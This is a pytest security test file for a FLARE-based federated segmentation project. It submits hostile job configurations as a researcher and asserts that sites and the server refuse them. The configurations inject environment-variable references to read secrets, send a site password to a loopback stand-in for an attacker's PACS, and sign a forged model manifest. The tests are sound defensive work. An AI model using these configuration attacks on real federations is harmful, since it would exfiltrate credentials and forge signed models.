"""The site decides: attacks a hostile researcher (role ``lead``) or coordinator could make with
FLARE's own Session API, tried against a real POC federation, and what each must get.

A lead exports the job fedseg would build, edits its configuration (a job is configuration,
not custom code, so FLARE's BYOC rule does not stop it) and submits it. All hostile jobs are
submitted at once and awaited together (FLARE runs a few at a time), then each test reads its
outcome.
"""

import json
import re
import shutil
import socket
import tempfile
import threading
from pathlib import Path

import pytest
from nvflare.fuel.flare_api.api_spec import AuthorizationError

from fedseg.cli import main
from provisioning.builders import AUTHORIZATION
from researcher_app.flare_job import build_job
from researcher_app.session import open_session
from site_app.ledger import EpsilonLedger
from tests.provisioning.conftest import (
    CANARY,
    CANARY_ENV,
    poc_kit,
    poc_spec,
    site_private,
    wait_for_job,
)

pytestmark = pytest.mark.slow

SITES = ("site-1", "site-2")


class _Listener:
    """A loopback TCP port that records every connection (stands in for an attacker's PACS)."""

    def __init__(self) -> None:
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen(8)
        self.socket.settimeout(0.5)
        self.port = self.socket.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.socket.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(2)
                try:
                    self.received.append(connection.recv(65536))
                except OSError:
                    self.received.append(b"")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.socket.close()


def _client_config(job: Path, site: str) -> Path:
    return job / f"app_{site}" / "config" / "config_fed_client.json"


def _server_config(job: Path) -> Path:
    return job / "app_server" / "config" / "config_fed_server.json"


def _edit(path: Path, change) -> None:
    config = json.loads(path.read_text())
    change(config)
    path.write_text(json.dumps(config, indent=2))


def _executor_args(config: dict) -> dict:
    return config["executors"][0]["executor"]["args"]


def _set_executor_arg(**values):
    def change(config):
        _executor_args(config).update(values)

    return change


def _add_component(component: dict):
    def change(config):
        config["components"].append(component)

    return change


@pytest.fixture(scope="module")
def hostile(poc, tmp_path_factory):
    """Submit every hostile job as the lead; wait for all; yield {name: (job_id, status)}."""
    _, state = poc
    lead = poc_kit(state, "lead")
    tmp = tmp_path_factory.mktemp("hostile")
    listener = _Listener()
    forged_model = tmp / "forged.pt"
    forged_model.write_bytes(b"not a model the federation trained")
    spec = poc_spec(training={"rounds": 1}, privacy={"noise_multiplier": 1.2})
    ledgers_before = {site: _ledger_entries(state, site) for site in SITES}

    def per_site(change):
        def edit(job):
            for site in SITES:
                _edit(_client_config(job, site), change)

        return edit

    edits = {
        # 1. The site's config and mode, chosen by the job.
        "site_config": per_site(_set_executor_arg(site_config=str(tmp / "lenient_site.yaml"))),
        "simulation": per_site(_set_executor_arg(simulation=True)),
        # FLARE fills in {$VAR} (environment) and {NAME} (system) references in job configs.
        "site_env_in_spec": per_site(
            lambda c: _executor_args(c)["spec"].update(name="x{$" + CANARY_ENV + "}")
        ),
        "server_env_in_spec": lambda job: _edit(
            _server_config(job),
            lambda c: c["workflows"][0]["args"]["spec"].update(name="x{$" + CANARY_ENV + "}"),
        ),
        # 2. Callables of fedseg's packages that the old prefix allow-list admitted.
        "site_pacs_import": per_site(
            _add_component(
                {
                    "id": "import",
                    "path": "site_app.pacs_import.import_from_dicomweb",
                    "args": {
                        "source": {
                            "path": "site_app.dicomweb_source.DicomwebSource",
                            "args": {
                                "url": f"http://127.0.0.1:{listener.port}/dicom-web",
                                "username": "x",
                                "password_env": CANARY_ENV,
                            },
                        },
                        "out_dir": str(tmp / "exfiltrated"),
                    },
                }
            )
        ),
        "server_signs_a_forgery": lambda job: _edit(
            _server_config(job),
            _add_component(
                {
                    "id": "forge",
                    "path": "server_app.model_manifest.write_signed_manifest",
                    "args": {
                        "model_path": str(forged_model),
                        "spec": {},
                        "contributing_sites": list(SITES),
                        "epsilon_per_site": {},
                        "rounds_completed": 30,
                        "signer": {
                            "path": "server_app.model_manifest.load_provisioned_signer",
                            "args": {"startup_dir": str(state.federation.server_kit / "startup")},
                        },
                    },
                }
            ),
        ),
        # ... and one of FLARE's own components, admitted by FLARE's default list.
        "site_flare_component": per_site(
            _add_component(
                {
                    "id": "recorder",
                    "path": "nvflare.app_common.widgets.event_recorder.ClientEventRecorder",
                }
            )
        ),
    }
    submitted = {}
    with open_session(lead) as session:
        for name, edit in edits.items():
            folder = Path(tempfile.mkdtemp(dir=tmp))
            build_job(spec, sites=list(SITES)).export_job(str(folder))
            edit(folder / spec.name)
            submitted[name] = session.submit_job(str(folder / spec.name))
    try:
        outcomes = {name: (job, wait_for_job(lead, job)) for name, job in submitted.items()}
    finally:
        listener.close()
    yield {
        "outcomes": outcomes,
        "listener": listener,
        "forged_model": forged_model,
        "ledgers_before": ledgers_before,
        "state": state,
        "lead": lead,
        "tmp": tmp,
    }


def _ledger_entries(state, site: str) -> int:
    fedseg = state.federation.sites[site] / "fedseg"
    path = fedseg / "epsilon_ledger.jsonl"
    if not path.is_file():
        return 0
    return len(EpsilonLedger.open(path=path, key_path=fedseg / "site_key.pem").entries())


@pytest.mark.parametrize("setting", ["site_config", "simulation"])
def test_a_job_cannot_choose_the_site_config_or_mode(hostile, setting):
    job_id, status = hostile["outcomes"][setting]
    assert [site.site for site in status.sites] == list(SITES)
    for site in status.sites:
        assert site.refused is not None, site
        assert f"refuses the job: it sets {setting}" in site.refused
        assert "local/fedseg_site.yaml" in site.refused
        assert site.epsilon is None and site.last_round == 0
        # Refused before any data was read or any epsilon spent.
        assert not (site_private(hostile["state"], site.site) / job_id).exists()
    assert status.rounds_done == 0


def test_no_hostile_job_spent_epsilon_at_any_site(hostile):
    state = hostile["state"]
    for site in SITES:
        assert _ledger_entries(state, site) == hostile["ledgers_before"][site]


def test_a_spec_that_references_site_variables_is_refused_and_leaks_nothing(hostile):
    _, status = hostile["outcomes"]["site_env_in_spec"]
    for site in status.sites:
        assert site.refused is not None and "FLARE variable references" in site.refused
    assert CANARY not in json.dumps([vars(site) for site in status.sites])
    assert CANARY not in json.dumps(status.errors)


def test_a_spec_that_references_server_variables_stops_the_job_and_leaks_nothing(hostile):
    job_id, status = hostile["outcomes"]["server_env_in_spec"]
    assert status.status == "FINISHED:EXECUTION_EXCEPTION", status
    assert status.rounds_done == 0 and not status.sites
    # What the lead can download of the job holds no value of the server's variables, and
    # says why the job stopped.
    text = _downloaded_text(hostile["lead"], job_id)
    assert CANARY not in text
    assert "FLARE variable references" in text


def _downloaded_text(lead: Path, job_id: str) -> str:
    """Every file of the job's result as the lead downloads it, as one text."""
    with open_session(lead) as session:
        result = Path(session.download_job_result(job_id))
    try:
        return "\n".join(
            path.read_text(errors="replace") for path in sorted(result.rglob("*")) if path.is_file()
        )
    finally:
        shutil.rmtree(result, ignore_errors=True)


def test_a_site_never_runs_a_component_outside_its_allow_list(hostile):
    for name in ("site_pacs_import", "site_flare_component"):
        job_id, status = hostile["outcomes"][name]
        # The site's FLARE refuses to build the job's app: no site trained or answered.
        assert status.status in ("FINISHED:ABNORMAL", "FINISHED:EXECUTION_EXCEPTION"), status
        assert status.rounds_done == 0
        for site in SITES:
            log = (hostile["state"].federation.sites[site] / job_id / "log.txt").read_text()
            assert "is not in allow_list" in log
    # The importer never ran: nothing reached the attacker's "PACS", no password was sent.
    assert hostile["listener"].received == []
    assert not (hostile["tmp"] / "exfiltrated").exists()


def test_the_server_never_signs_a_file_for_a_job(hostile):
    job_id, status = hostile["outcomes"]["server_signs_a_forgery"]
    assert status.status == "FINISHED:EXECUTION_EXCEPTION", status
    forged = hostile["forged_model"]
    assert not forged.with_name("forged.manifest.json").exists()
    assert not forged.with_name("forged.manifest.sig").exists()
    # The lead can read why in the job's result (the server's job log).
    log = _downloaded_text(hostile["lead"], job_id)
    assert "'server_app.model_manifest.write_signed_manifest'" in log
    assert "is not in allow_list" in log


def test_site_logs_stay_at_the_site(hostile):
    """No site log reached the server, also for jobs that failed at the sites (FLARE's default
    would stream each site's error log into the server's job store)."""
    state = hostile["state"]
    store = state.federation.server_kit / "jobs-storage"
    for job_id, _ in hostile["outcomes"].values():
        stored = sorted(p.name for p in (store / job_id).iterdir())
        assert not [name for name in stored if name.endswith(SITES)], stored


@pytest.mark.parametrize("role", ["project_admin", "org_admin", "lead", "member"])
def test_no_role_has_a_shell_on_a_site(poc, role):
    _, state = poc
    with open_session(poc_kit(state, role)) as session:
        with pytest.raises(AuthorizationError):
            session.ls_target("site-1")
        with pytest.raises(AuthorizationError):
            session.cat_target("site-1", file="local/resources.json")


def test_a_lead_cannot_operate_a_site(poc):
    _, state = poc
    with open_session(poc_kit(state, "lead")) as session:
        answers = session.report_resources("client", ["site-1"])
    assert "not authorized" in str(answers["site-1"])
    assert AUTHORIZATION["permissions"]["lead"]["operate"] == "none"


def test_fedseg_job_status_shows_each_site_s_refusal(hostile, capsys):
    job_id, _ = hostile["outcomes"]["simulation"]
    assert main(["job", "status", job_id, "--kit", str(hostile["lead"])]) in (0, None)
    out = capsys.readouterr().out
    for site in SITES:
        assert site in out
    # The table wraps a long reason inside its cell: compare without spaces and cell borders.
    flat = re.sub(r"[\s│]+", "", out)
    assert "refusesthejob:itsetssimulationforthesite'sexecutor" in flat
